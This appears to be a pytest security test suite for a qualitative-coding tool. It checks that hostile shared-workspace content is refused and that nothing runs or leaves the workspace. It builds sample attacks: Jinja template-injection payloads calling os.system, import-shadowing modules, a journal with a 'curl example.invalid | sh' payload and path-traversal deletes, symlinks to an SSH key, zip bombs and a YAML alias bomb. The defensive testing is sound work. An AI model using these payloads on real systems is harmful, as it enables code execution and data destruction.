"""Issue 13, part A: a shared workspace is untrusted input (docs/security.md).

One test (or a few) per numbered case, named after it. Each builds the attack the way a
hostile teammate or a careless merge would deliver it — in the workspace folder, or in a real
git repository driven by real git — and checks that nothing runs, nothing outside the
workspace changes, and the user gets a clear exit-1 message naming the file.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest

from stc import api
from stc.errors import LockTimeout, StcError, TooLarge, UnsafePath
from stc.store import Workspace
from stc.store import files as store_files
from tests.conftest import write_transcript

needs_links = pytest.mark.skipif(
    not hasattr(os, "symlink") or sys.platform == "win32", reason="symbolic links"
)
needs_git = pytest.mark.skipif(not shutil.which("git"), reason="git is not installed")

# a file a link could leak into a report or a commit (made up, not a key)
SECRET = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPublicKeyOfTheVictim kari@laptop\n"  # noqa: S105


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A stand-in for the user's home folder, beside the workspace."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n", encoding="utf-8")
    (home / "thesis.docx").write_bytes(b"PK\x03\x04 chapter 1 ...")
    (home / "id_ed25519.pub").write_text(SECRET, encoding="utf-8")
    return home


def _tree(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


# --- case 1: workspace templates run code ------------------------------------------------

PAYLOAD = '{{% set x = cycler.__init__.__globals__.os.system("touch {marker}") %}}Rapport\n'


def test_case01_template_cannot_run_code(ws: Workspace, cli, tmp_path: Path):
    marker = tmp_path / "pwned"
    (ws.root / "templates").mkdir()
    (ws.root / "templates" / "report.md.j2").write_text(
        PAYLOAD.format(marker=marker), encoding="utf-8"
    )
    r = cli(ws.root, "report", "-f", "md")
    assert r.exit_code == 1, r.output
    assert "templates/report.md.j2: refused" in r.stderr and "__init__" in r.stderr
    assert not marker.exists()
    assert not (ws.root / "reports" / "report.md").exists()


@pytest.mark.parametrize(
    "expression",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ v.__class__.__init__.__globals__ }}",
        "{{ s.update({'x': 1}) }}",  # the view and its phrase table are read-only
        "{{ 'x' * 1000000000 }}",
        "{{ 10 ** 100000000 }}",
    ],
)
def test_case01_template_cannot_reach_internals_or_blow_up(demo: Workspace, cli, expression):
    (demo.root / "templates").mkdir()
    (demo.root / "templates" / "report.md.j2").write_text(expression, encoding="utf-8")
    r = cli(demo.root, "report", "-f", "md")
    assert r.exit_code == 1, r.output
    assert "templates/report.md.j2" in r.stderr


def test_case01_template_that_loops_without_end_stops_at_the_output_limit(
    demo: Workspace, monkeypatch
):
    from stc.report import templating

    monkeypatch.setattr(templating, "REPORT_OUTPUT", 1 << 20)
    (demo.root / "templates").mkdir()
    (demo.root / "templates" / "report.md.j2").write_text(
        "{% for a in range(100000) %}{% for b in range(100000) %}Læringskurven er bratt. "
        "{% endfor %}{% endfor %}",
        encoding="utf-8",
    )
    with pytest.raises(TooLarge, match=r"templates/report.md.j2: the report grows past 1\.0 MiB"):
        api.render_report(demo, "md")


@needs_links
def test_case01_symlinked_template_is_refused(ws: Workspace, cli, outside: Path):
    (ws.root / "templates").mkdir()
    (outside / "report.md.j2").write_text("{{ v.title }}\n" + SECRET, encoding="utf-8")
    os.symlink(outside / "report.md.j2", ws.root / "templates" / "report.md.j2")
    r = cli(ws.root, "report", "-f", "md")
    assert r.exit_code == 1
    assert "templates/report.md.j2 is a symbolic link" in r.stderr
    assert not (ws.root / "reports" / "report.md").exists()


@needs_links
def test_case01_symlinked_templates_folder_and_included_file_are_refused(
    demo: Workspace, cli, outside: Path
):
    (outside / "report.md.j2").write_text("{{ v.title }}", encoding="utf-8")
    os.symlink(outside, demo.root / "templates")
    r = cli(demo.root, "report", "-f", "md")
    assert r.exit_code == 1 and "templates is a symbolic link" in r.stderr
    os.unlink(demo.root / "templates")
    (demo.root / "templates").mkdir()
    (demo.root / "templates" / "report.md.j2").write_text(
        '{% include "private.j2" %}', encoding="utf-8"
    )
    os.symlink(outside / "id_ed25519.pub", demo.root / "templates" / "private.j2")
    r = cli(demo.root, "report", "-f", "md")
    assert r.exit_code == 1 and "templates/private.j2 is a symbolic link" in r.stderr
    assert SECRET not in r.output


def test_case01_a_safe_workspace_template_still_renders(demo: Workspace):
    (demo.root / "templates").mkdir()
    (demo.root / "templates" / "report.md.j2").write_text(
        "# {{ v.title | upper }}\n\n{{ v.authors | join(', ') }}\n\n"
        "{% for b in v.body[:3] %}{{ b | md_block(s.todo) }}\n\n{% endfor %}",
        encoding="utf-8",
    )
    text = api.render_report(demo, "md").read_text(encoding="utf-8")
    title = demo.project().title
    assert text.startswith(f"# {title.upper()}\n") and text.count("\n#") >= 1


# --- case 2: hooks and the merge driver import from the repository -------------------------


def _git(cwd: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "Kari",
        "GIT_AUTHOR_EMAIL": "kari@example.invalid",
        "GIT_COMMITTER_NAME": "Kari",
        "GIT_COMMITTER_EMAIL": "kari@example.invalid",
    }
    out = subprocess.run(
        ["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=False
    )
    if check and out.returncode != 0:
        raise AssertionError(f"git {' '.join(args)}: {out.stdout}{out.stderr}")
    return out


SHADOW = """\
# a pulled commit: runs whenever Python imports typer from this folder
import pathlib
pathlib.Path(__file__).with_name("PWNED").write_text("ran", encoding="utf-8")
"""


def _repo(tmp_path: Path, hooks: bool) -> Path:
    if not shutil.which("git"):
        pytest.skip("git is not installed")
    w = api.init_workspace(tmp_path / "studie", "Veiledning i NAV", "nb", ["ms", "ak"])
    api.add_group(w, "veileder", "NAV-veileder")
    write_transcript(w, "vei-01", "veileder")
    _git(w.root, "init", "-q", "-b", "main")
    api.setup_clone(w, hooks=hooks)
    _git(w.root, "add", "-A")
    _git(w.root, "commit", "-qm", "studien")
    return w.root


@pytest.fixture
def hooked(tmp_path: Path) -> Path:
    """A workspace in a git repository, set up with `stc setup --hooks`."""
    return _repo(tmp_path, hooks=True)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A workspace in a git repository, set up with `stc setup --no-hooks`."""
    return _repo(tmp_path, hooks=False)


def test_case02_hook_cannot_import_from_the_repository(hooked: Path):
    (hooked / "typer.py").write_text(SHADOW, encoding="utf-8")
    (hooked / "yaml.py").write_text(SHADOW, encoding="utf-8")
    # the shadowing module is real: `python -m stc` in this folder would run it
    subprocess.run(
        [sys.executable, "-m", "stc", "--version"], cwd=hooked, capture_output=True, check=False
    )
    assert (hooked / "PWNED").exists()
    (hooked / "PWNED").unlink()
    hook = (hooked / ".git" / "hooks" / "pre-commit").read_text(encoding="utf-8")
    assert f"{sys.executable} -P -m stc check" in hook
    _git(hooked, "add", "typer.py", "yaml.py")
    out = _git(hooked, "commit", "-qm", "verktøy")
    assert not (hooked / "PWNED").exists(), out.stdout + out.stderr
    # and the hook does run stc: a broken unit file stops the next commit
    broken = hooked / "analyses" / "step2" / "vei-01" / "ms.yaml"
    broken.parent.mkdir(parents=True)
    broken.write_text("transcript: vei-01\ncoder: ms\nunits: [\n", encoding="utf-8")
    _git(hooked, "add", "-A")
    refused = _git(hooked, "commit", "-qm", "halvferdig", check=False)
    assert refused.returncode != 0 and "stc check: errors" in refused.stdout + refused.stderr
    assert not (hooked / "PWNED").exists()


def test_case02_merge_driver_cannot_import_from_the_repository(repo: Path):
    config = _git(repo, "config", "merge.stc.driver").stdout.strip()
    assert config == f"{sys.executable} -P -m stc merge-driver %O %A %B %P"
    _git(repo, "checkout", "-qb", "ak")
    api.add_code(Workspace(repo), "tidspress", definition="Saksmengde og frister")
    _git(repo, "commit", "-qam", "ak: tidspress")
    _git(repo, "checkout", "-q", "main")
    (repo / "typer.py").write_text(SHADOW, encoding="utf-8")
    _git(repo, "add", "typer.py")
    api.add_code(Workspace(repo), "kompetanse", definition="Opplæring og erfaring")
    _git(repo, "commit", "-qam", "ms: kompetanse")
    out = _git(repo, "merge", "--no-edit", "ak", check=False)
    assert out.returncode == 0, out.stdout + out.stderr
    assert not (repo / "PWNED").exists()
    codes = {c.id for c in Workspace(repo).codebook().codes}
    assert {"tidspress", "kompetanse"} <= codes  # the driver ran and merged by item


# --- case 3: a committed journal is replayed ------------------------------------------------


def test_case03_journal_outside_workspace_is_refused(ws: Workspace, cli, outside: Path):
    before = _tree(outside)
    (ws.root / "tools").mkdir()
    (ws.root / "tools" / "payload.sh").write_text("curl example.invalid | sh\n")
    journal = ws.root / ".stc" / "journal.json"
    journal.parent.mkdir(exist_ok=True)
    rel = os.path.relpath(outside, ws.root)
    journal.write_text(
        json.dumps(
            {
                "moves": [["tools/payload.sh", f"{rel}/.bashrc"]],
                "deletes": [f"{rel}/thesis.docx", str(outside / "id_ed25519.pub")],
            }
        )
    )
    r = cli(ws.root, "status")
    assert r.exit_code == 0, r.output
    assert ".stc/journal.json was not followed" in r.stderr
    assert _tree(outside) == before
    assert (ws.root / "tools" / "payload.sh").exists()
    assert not journal.exists() and (ws.root / ".stc" / "journal.refused.json").exists()
    assert cli(ws.root, "status").stderr == ""  # said once; the journal is out of the way


def test_case03_journal_without_this_users_signature_is_not_followed(ws: Workspace):
    """A journal from git names only stc's own files, yet is not followed: it was not
    written here, and replaying it could delete a teammate's uncommitted work."""
    units = ws.root / "analyses" / "step2" / "vei-01" / "ms.yaml"
    api.add_unit(ws, "vei-01", "ms", ["bratt"], quote="Læringskurven er bratt")
    (ws.root / ".stc" / "journal.json").write_text(
        json.dumps({"plan": {"moves": [], "deletes": [str(units.relative_to(ws.root))]}, "mac": ""})
    )
    Workspace(ws.root)
    assert units.is_file()
    from stc.store.schema import UPGRADED

    notes = list(UPGRADED)
    UPGRADED.clear()
    assert any("not written by stc for this user" in n for n in notes), notes


def test_case03_signed_journal_is_still_checked_path_by_path(ws: Workspace, outside: Path):
    before = _tree(outside)
    plan = {"moves": [], "deletes": ["../home/.bashrc"]}
    (ws.root / ".stc" / "journal.json").write_bytes(store_files._signed(plan))
    Workspace(ws.root)
    assert _tree(outside) == before
    plan = {"moves": [["tools/x.tmp", "stc.yaml"]], "deletes": []}
    (ws.root / ".stc" / "journal.json").write_bytes(store_files._signed(plan))
    Workspace(ws.root)
    assert (ws.root / ".stc" / "journal.refused.json").is_file()
    assert "Testing" in (ws.root / "stc.yaml").read_text(encoding="utf-8")


def test_case03_an_interrupted_change_is_still_completed(ws: Workspace, monkeypatch):
    """The journal's purpose survives: a change killed between journal and renames is
    finished by the next command."""
    real = store_files._carry_out

    def killed(*_a: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(store_files, "_carry_out", killed)
    with pytest.raises(KeyboardInterrupt):
        _two_file_change(ws)
    monkeypatch.setattr(store_files, "_carry_out", real)
    assert (ws.root / ".stc" / "journal.json").is_file()
    w = Workspace(ws.root)
    assert not (ws.root / ".stc" / "journal.json").exists()
    assert [g.id for g in w.project().groups][-1] == "ny-gruppe"
    assert w.codebook().code("ny-kode") is not None


def _two_file_change(ws: Workspace) -> None:
    from dataclasses import replace

    from stc.model import Code, Codebook, InformantGroup

    with ws.lock(), ws.transaction():
        p = ws.project()
        ws.save_project(replace(p, groups=(*p.groups, InformantGroup("ny-gruppe", "Ny"))))
        ws.save_codebook(Codebook(codes=(Code("ny-kode"),)))


# --- case 4: links lead writes and reads out of the workspace ---------------------------


@needs_links
def test_case04_lock_symlink_does_not_truncate_its_target(ws: Workspace, cli, outside: Path):
    before = _tree(outside)
    lock = ws.root / ".stc" / "lock"
    lock.unlink(missing_ok=True)
    os.symlink(outside / ".bashrc", lock)
    r = cli(ws.root, "group", "add", "leder", "--label", "NAV-leder")
    assert r.exit_code == 1
    assert ".stc/lock is a symbolic link" in r.stderr
    assert _tree(outside) == before


@needs_links
def test_case04_symlinked_unit_folder_is_not_written(ws: Workspace, cli, outside: Path):
    before = _tree(outside)
    os.symlink(outside, ws.root / "analyses" / "step2" / "vei-01")
    r = cli(ws.root, "unit", "add", "vei-01", "-r", "ms", "-q", "Læringskurven er bratt", "-c", "x")
    assert r.exit_code == 1, r.output
    assert "analyses/step2/vei-01 is a symbolic link" in r.stderr
    assert _tree(outside) == before


@needs_links
def test_case04_symlinked_transcript_is_not_read(ws: Workspace, cli, outside: Path):
    os.symlink(outside / "id_ed25519.pub", ws.root / "transcripts" / "vei-09.md")
    r = cli(ws.root, "status")
    assert r.exit_code == 1
    assert "transcripts/vei-09.md is a symbolic link" in r.stderr
    assert "AAAAC3" not in r.output


@needs_links
def test_case04_symlinked_reports_folder_is_not_written(demo: Workspace, cli, outside: Path):
    before = _tree(outside)
    shutil.rmtree(demo.root / "reports", ignore_errors=True)
    os.symlink(outside, demo.root / "reports")
    for args in (
        ["report", "-f", "md"],
        ["quotes", "-f", "xlsx"],
        ["export", "docx-for-coding", "vei-01"],
    ):
        r = cli(demo.root, *args)
        assert r.exit_code == 1, (args, r.output)
        assert "reports is a symbolic link" in r.stderr
    r = cli(demo.root, "report", "-f", "md", "--out", str(outside / "rapport.md"))
    assert r.exit_code == 0  # a path the user types outside the workspace is the user's
    assert _tree(outside).keys() == before.keys() | {"rapport.md"}


@needs_links
def test_case04_inputs_inside_the_workspace_are_not_followed(ws: Workspace, cli, outside: Path):
    (ws.root / "raw").mkdir()
    os.symlink(outside / "id_ed25519.pub", ws.root / "raw" / "vei-09.txt")
    r = cli(ws.root, "import", str(ws.root / "raw" / "vei-09.txt"), "--group", "veileder")
    assert r.exit_code == 1 and "raw/vei-09.txt is a symbolic link" in r.stderr
    assert not (ws.root / "transcripts" / "vei-09.md").exists()
    os.symlink(outside / "thesis.docx", ws.root / "raw" / "mal.docx")
    r = cli(ws.root, "report", "-f", "docx", "--reference-docx", str(ws.root / "raw" / "mal.docx"))
    assert r.exit_code == 1 and "raw/mal.docx is a symbolic link" in r.stderr


@needs_links
def test_case04_link_refused_without_o_nofollow(ws: Workspace, outside: Path, monkeypatch):
    """The check does not rest on O_NOFOLLOW (absent on Windows)."""
    monkeypatch.delattr(os, "O_NOFOLLOW", raising=False)
    os.symlink(outside / "id_ed25519.pub", ws.root / "transcripts" / "vei-09.md")
    with pytest.raises(UnsafePath, match=r"transcripts/vei-09\.md is a symbolic link"):
        Workspace(ws.root).study()
    lock = ws.root / ".stc" / "lock"
    lock.unlink(missing_ok=True)
    os.symlink(outside / ".bashrc", lock)
    with pytest.raises(UnsafePath, match=r"\.stc/lock is a symbolic link"), ws.lock():
        pass
    assert (outside / ".bashrc").read_text() == "export PATH=$HOME/bin:$PATH\n"


def test_case04_resolved_path_check_catches_what_lstat_cannot(ws: Workspace, monkeypatch):
    """On Windows a junction is not a symlink to lstat in every Python; the resolved path
    must still lie inside the workspace."""
    real = os.path.realpath

    def junction(path: object, *a: object, **k: object) -> str:
        p = real(path, *a, **k)  # type: ignore[call-overload]
        return p.replace(str(ws.root / "analyses"), "/elsewhere")

    monkeypatch.setattr(os.path, "realpath", junction)
    with pytest.raises(UnsafePath, match="leads outside the workspace"):
        api.add_unit(ws, "vei-01", "ms", ["bratt"], quote="Læringskurven er bratt")


def _fake_msvcrt() -> object:
    """msvcrt.locking's documented behaviour, for one process: LK_NBLCK raises OSError while
    another descriptor holds the byte, LK_UNLCK frees it."""
    held: dict[tuple[int, int], int] = {}

    class Msvcrt:
        LK_NBLCK, LK_UNLCK = 2, 0

        @staticmethod
        def locking(fd: int, mode: int, n: int) -> None:
            key = (os.fstat(fd).st_ino, os.lseek(fd, 0, os.SEEK_CUR))
            if mode == Msvcrt.LK_NBLCK:
                if held.get(key, fd) != fd:
                    raise OSError(13, "Permission denied")
                held[key] = fd
            elif held.get(key) == fd:
                del held[key]

    return Msvcrt


@pytest.mark.parametrize("backend", ["msvcrt", "file"])
def test_case04_lock_works_without_fcntl(ws: Workspace, monkeypatch, backend: str):
    monkeypatch.setitem(sys.modules, "fcntl", None)
    monkeypatch.setitem(sys.modules, "msvcrt", _fake_msvcrt() if backend == "msvcrt" else None)
    from stc.store.lock import _backend

    assert _backend() == backend
    first, second = Workspace(ws.root), Workspace(ws.root)
    held = pytest.raises(LockTimeout, match=r"locked by another stc process \(pid \d+")
    with first.lock(), held, second.lock(timeout=0.1):
        pass
    with second.lock():  # released: the other may take it
        api.add_group(second, "leder", "NAV-leder")
    assert second.project().group("leder") is not None
    if backend == "file":
        assert not (ws.root / ".stc" / "lock.held").exists()


# --- case 8: the merge driver rewrites YAML that is not stc's ------------------------------

PRE_COMMIT = """\
# Hooks for this project (see docs/team.md)
repos:
- repo: https://example.invalid/stc
  rev: v0.1.0
  hooks:
  - id: stc-check
    verbose: yes
"""


def test_case08_gitattributes_send_only_stcs_files_to_the_driver(repo: Path):
    paths = [
        "stc.yaml",
        "codebooks/codebook.yaml",
        "analyses/step2/vei-01/ms.yaml",
        "analyses/assignments.yaml",
        ".pre-commit-config.yaml",
        "docs/stc.yaml",
        "analyses/step2/vei-01/old/ms.yaml",
        "transcripts/vei-01.md",
    ]
    out = _git(repo, "check-attr", "merge", "--", *paths).stdout.splitlines()
    merge = {line.split(": ")[0]: line.split(": ")[2] for line in out}
    assert [p for p in paths if merge[p] == "stc"] == paths[:4]


@pytest.mark.parametrize("attributes", ["current", "older stc (*.yaml merge=stc)"])
def test_case08_merge_driver_leaves_other_yaml_to_git(repo: Path, attributes: str):
    if attributes != "current":
        (repo / ".gitattributes").write_text("*.yaml merge=stc\n", encoding="utf-8")
    (repo / ".pre-commit-config.yaml").write_text(PRE_COMMIT, encoding="utf-8")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "pre-commit")
    _git(repo, "checkout", "-qb", "ak")
    (repo / ".pre-commit-config.yaml").write_text(
        PRE_COMMIT.replace("v0.1.0", "v0.2.0"), encoding="utf-8"
    )
    _git(repo, "commit", "-qam", "ak: ny versjon")
    _git(repo, "checkout", "-q", "main")
    (repo / ".pre-commit-config.yaml").write_text(
        PRE_COMMIT + "  - id: stc-anon-scan\n", encoding="utf-8"
    )
    _git(repo, "commit", "-qam", "ms: anon scan")
    out = _git(repo, "merge", "--no-edit", "ak", check=False)
    assert out.returncode == 0, out.stdout + out.stderr
    merged = (repo / ".pre-commit-config.yaml").read_text(encoding="utf-8")
    assert merged == PRE_COMMIT.replace("v0.1.0", "v0.2.0") + "  - id: stc-anon-scan\n"


def test_case08_a_real_conflict_in_other_yaml_is_gits_ordinary_conflict(repo: Path):
    (repo / ".gitattributes").write_text("*.yaml merge=stc\n", encoding="utf-8")
    (repo / ".pre-commit-config.yaml").write_text(PRE_COMMIT, encoding="utf-8")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "pre-commit")
    _git(repo, "checkout", "-qb", "ak")
    (repo / ".pre-commit-config.yaml").write_text(PRE_COMMIT.replace("v0.1.0", "v0.2.0"))
    _git(repo, "commit", "-qam", "ak")
    _git(repo, "checkout", "-q", "main")
    (repo / ".pre-commit-config.yaml").write_text(PRE_COMMIT.replace("v0.1.0", "v0.3.0"))
    _git(repo, "commit", "-qam", "ms")
    out = _git(repo, "merge", "--no-edit", "ak", check=False)
    assert out.returncode != 0 and "CONFLICT" in out.stdout
    assert "not one of stc's files: merged as text by git, 1 conflict" in out.stderr
    merged = (repo / ".pre-commit-config.yaml").read_text(encoding="utf-8")
    assert "<<<<<<< ours\n  rev: v0.3.0\n=======\n  rev: v0.2.0\n>>>>>>> theirs\n" in merged
    assert merged.startswith("# Hooks for this project") and "verbose: yes" in merged
    assert "schema_version" not in merged


def test_case08_setup_narrows_an_older_gitattributes(repo: Path):
    (repo / ".gitattributes").write_text(
        "*.png binary\n# stc: three-way merge of stc's YAML files by item (stc setup installs "
        "the driver)\n*.yaml merge=stc\nanalyses/decisions.md merge=union\n",
        encoding="utf-8",
    )
    done = api.setup_clone(Workspace(repo), hooks=False)
    assert ".gitattributes: merge=stc now covers only stc's own files (commit it)" in done
    text = (repo / ".gitattributes").read_text(encoding="utf-8")
    assert text.startswith("*.png binary\n\n# stc:") and "\n*.yaml merge=stc" not in text
    assert "/codebooks/codebook.yaml merge=stc" in text
    assert not any("gitattributes" in d for d in api.setup_clone(Workspace(repo), hooks=False))


# --- case 10: resource exhaustion -----------------------------------------------------------


def _zip_with(members: dict[str, bytes], declared: dict[str, int] | None = None) -> bytes:
    """A zip archive; ``declared`` overrides the unpacked size the central directory gives."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
        for name, n in (declared or {}).items():
            z.getinfo(name).file_size = n
    return buf.getvalue()


def _docx_members() -> dict[str, bytes]:
    import docx

    doc = docx.Document()
    doc.add_paragraph("I: Kan du fortelle om jobben din?")
    doc.add_paragraph("R: Læringskurven er bratt.")
    buf = io.BytesIO()
    doc.save(buf)
    with zipfile.ZipFile(buf) as z:
        return {n: z.read(n) for n in z.namelist()}


def test_case10_docx_zip_bomb_is_refused_before_unpacking(ws: Workspace, cli, tmp_path: Path):
    members = _docx_members()
    bomb = tmp_path / "vei-09.docx"
    members["word/media/image1.png"] = b"\x89PNG" + bytes(1000)
    bomb.write_bytes(_zip_with(members, {"word/media/image1.png": 3 << 30}))
    r = cli(ws.root, "import", str(bomb), "--group", "veileder")
    assert r.exit_code == 1
    assert "vei-09.docx: word/media/image1.png unpacks to 3.0 GiB" in r.stderr
    bomb.write_bytes(_zip_with(members, {"word/document.xml": int(1.8 * (1 << 30))}))
    r = cli(ws.root, "import", str(bomb), "--group", "veileder")
    assert r.exit_code == 1 and "word/document.xml unpacks to 1.8 GiB" in r.stderr


def test_case10_a_member_larger_than_it_declares_is_not_unpacked(ws: Workspace, cli, tmp_path):
    """zipfile stops at the declared size, so the declared sizes are a real cap."""
    members = _docx_members()
    declared = len(members["word/document.xml"])
    members["word/document.xml"] += b" " * (20 << 20)  # 20 MiB more: 20 KiB packed
    bomb = tmp_path / "vei-09.docx"
    bomb.write_bytes(_zip_with(members, {"word/document.xml": declared}))
    assert bomb.stat().st_size < 100_000
    r = cli(ws.root, "import", str(bomb), "--group", "veileder")
    assert r.exit_code == 1 and "vei-09.docx" in r.stderr
    assert not (ws.root / "transcripts" / "vei-09.md").exists()


def test_case10_qdpx_zip_bomb_is_refused(demo: Workspace, cli, tmp_path: Path):
    qdpx = api.export_qdpx(demo, tmp_path / "demo.qdpx").path
    with zipfile.ZipFile(qdpx) as z:
        members = {n: z.read(n) for n in z.namelist()}
    qdpx.write_bytes(_zip_with(members, {"project.qde": 3 << 30}))
    fresh = api.init_workspace(tmp_path / "tom", "Tom", "nb")
    r = cli(fresh.root, "import", str(qdpx))
    assert r.exit_code == 1 and "demo.qdpx: project.qde unpacks to 3.0 GiB" in r.stderr


def _alias_bomb(levels: int = 11) -> str:
    lines = ['a0: &a0 ["ha", "ha", "ha", "ha", "ha", "ha", "ha", "ha", "ha"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]")
    return "\n".join(lines) + "\n"


def test_case10_yaml_alias_bomb_is_refused(ws: Workspace, cli):
    bomb = _alias_bomb()
    assert len(bomb) < 3000  # 9**11 strings once expanded
    ws.codebook_path.write_text("schema_version: 1\n" + bomb, encoding="utf-8")
    r = cli(ws.root, "status")
    assert r.exit_code == 1
    assert "codebooks/codebook.yaml:2:" in r.stderr and "anchors and aliases" in r.stderr


@needs_git
def test_case10_merge_driver_refuses_an_alias_bomb_fast(tmp_path: Path):
    base, ours, theirs = (tmp_path / n for n in ("base", "ours", "theirs"))
    base.write_text("schema_version: 1\ncodes: []\n")
    ours.write_text("schema_version: 1\ncodes:\n- id: tidspress\n")
    theirs.write_text("schema_version: 1\ncodes: []\n" + _alias_bomb())
    conflicts, _ = api.merge_files(base, ours, theirs, "codebooks/codebook.yaml", tmp_path)
    assert conflicts and "anchors and aliases" in conflicts[0]
    merged = ours.read_text()
    assert "<<<<<<< ours" in merged and len(merged) < 5000  # git's text merge, not expanded


def test_case10_very_large_files_are_refused_before_reading(ws: Workspace, cli, tmp_path: Path):
    huge = ws.root / "transcripts" / "vei-09.md"
    with huge.open("wb") as fh:
        fh.truncate(33 << 20)  # sparse: no disk space, no time
    r = cli(ws.root, "status")
    assert r.exit_code == 1
    assert "transcripts/vei-09.md is 33 MiB; stc reads files of at most 32 MiB" in r.stderr
    huge.unlink()
    raw = tmp_path / "vei-09.txt"
    with raw.open("wb") as fh:
        fh.truncate(65 << 20)
    r = cli(ws.root, "import", str(raw), "--group", "veileder")
    assert r.exit_code == 1 and "vei-09.txt: the file is 65 MiB" in r.stderr


# --- case 11: exit 3 (a bug) on hostile input becomes a clear exit 1 --------------------


@pytest.fixture
def qdpx_members(demo: Workspace, tmp_path: Path) -> dict[str, bytes]:
    path = api.export_qdpx(demo, tmp_path / "demo.qdpx").path
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


@pytest.fixture
def empty(tmp_path: Path) -> Workspace:
    w = api.init_workspace(tmp_path / "tom", "Tom", "nb", ["ms"])
    api.add_group(w, "veileder", "NAV-veileder")
    return w


def test_case11_qdpx_with_unsupported_compression(qdpx_members, empty, cli, tmp_path: Path):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in qdpx_members.items():
            z.writestr(name, data)
        z.getinfo("project.qde").compress_type = 9  # Deflate64: not in Python's zipfile
    path = tmp_path / "nvivo.qdpx"
    path.write_bytes(buf.getvalue())
    r = cli(empty.root, "import", str(path))
    assert r.exit_code == 1, r.output
    assert "nvivo.qdpx: project.qde is packed with a compression method stc cannot read" in (
        r.stderr
    )


def test_case11_qdpx_with_corrupt_deflate_data(qdpx_members, empty, cli, tmp_path: Path):
    data = bytearray(_zip_with(qdpx_members))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo("project.qde")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(start + 20, start + 60):
        data[i] ^= 0xA5
    path = tmp_path / "skadet.qdpx"
    path.write_bytes(bytes(data))
    r = cli(empty.root, "import", str(path))
    assert r.exit_code == 1, r.output
    assert "skadet.qdpx: project.qde is damaged inside the archive" in r.stderr


def test_case11_junk_rich_text_docx_inside_qdpx(empty, cli, tmp_path: Path):
    qde = (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<Project xmlns="urn:QDA-XML:project:1.0" name="MAXQDA-prosjekt">'
        '<Sources><TextSource guid="{0b0c3a5e-8f43-4d1e-9d6a-2f9c8e1d7a10}" name="vei-01" '
        'richTextPath="internal://0b0c3a5e.docx"/></Sources></Project>'
    )
    path = tmp_path / "maxqda.qdpx"
    path.write_bytes(
        _zip_with({"project.qde": qde.encode(), "sources/0b0c3a5e.docx": b"not a word file"})
    )
    r = cli(empty.root, "import", str(path), "--group", "veileder")
    assert r.exit_code == 1, r.output
    assert "maxqda.qdpx: sources/0b0c3a5e.docx: the source's rich text is not a readable" in (
        r.stderr
    )


def test_case11_steps_that_are_not_numbers(ws: Workspace, cli):
    (ws.root / "analyses" / "assignments.yaml").write_text(
        "schema_version: 1\nrounds:\n- round: 1\n  strategy: manual\n  steps: [a]\n"
        "  researchers:\n    ms: [vei-01]\n",
        encoding="utf-8",
    )
    r = cli(ws.root, "status")
    assert r.exit_code == 1, r.output
    assert "analyses/assignments.yaml" in r.stderr and "steps[0]: 'a' is not a step" in r.stderr


def test_case11_a_5000_digit_integer(ws: Workspace, cli):
    api.add_unit(ws, "vei-01", "ms", ["bratt"], quote="Læringskurven er bratt")
    path = ws.root / "analyses" / "step2" / "vei-01" / "ms.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("turn: 2", "turn: " + "7" * 5000), encoding="utf-8")
    r = cli(ws.root, "status")
    assert r.exit_code == 1, r.output
    assert "analyses/step2/vei-01/ms.yaml:" in r.stderr and "5000 digits is too long" in r.stderr


def test_case11_journal_race(ws: Workspace, monkeypatch):
    """A reader that sees the journal just before the writer finishes it: the reader waits
    for the lock, then finds the work done (before: FileNotFoundError, exit 3)."""
    from stc.store import lock as lock_module

    waiting = threading.Event()
    real_acquire = lock_module.Lock.acquire

    def acquire(self: lock_module.Lock, timeout: float) -> None:
        if threading.current_thread().name == "reader":
            waiting.set()
        real_acquire(self, timeout)

    monkeypatch.setattr(lock_module.Lock, "acquire", acquire)
    errors: list[BaseException] = []
    writer = Workspace(ws.root)
    with writer.lock():
        real = store_files._carry_out
        journal = ws.root / ".stc" / "journal.json"
        journal.write_bytes(store_files._signed({"moves": [], "deletes": []}))

        def read() -> None:
            try:
                Workspace(ws.root).study()
            except BaseException as exc:  # pragma: no cover - the failure being tested
                errors.append(exc)

        reader = threading.Thread(target=read, name="reader")
        reader.start()
        waiting.wait(timeout=60)
        real(ws.root, {"moves": [], "deletes": []}, journal)  # the writer finishes
    reader.join(timeout=60)
    assert errors == [] and not journal.exists()


def test_case11_journal_race_between_processes(ws: Workspace):
    """Real processes: one writer committing multi-file changes, two readers opening the
    workspace all the while. No reader may fail."""
    script = (
        "import sys\nfrom pathlib import Path\nfrom stc.store import Workspace\n"
        "root = Path(sys.argv[1])\n"
        "while not (root / 'done').exists():\n    Workspace(root).study()\n"
    )
    readers = [
        subprocess.Popen([sys.executable, "-c", script, str(ws.root)], stderr=subprocess.PIPE)
        for _ in range(2)
    ]
    try:
        for i in range(25):
            api.add_code(ws, f"kode-{i}", definition="Tidspress")
            api.rename_code(ws, f"kode-{i}", f"omdøpt-{i}")
    finally:
        (ws.root / "done").write_text("")
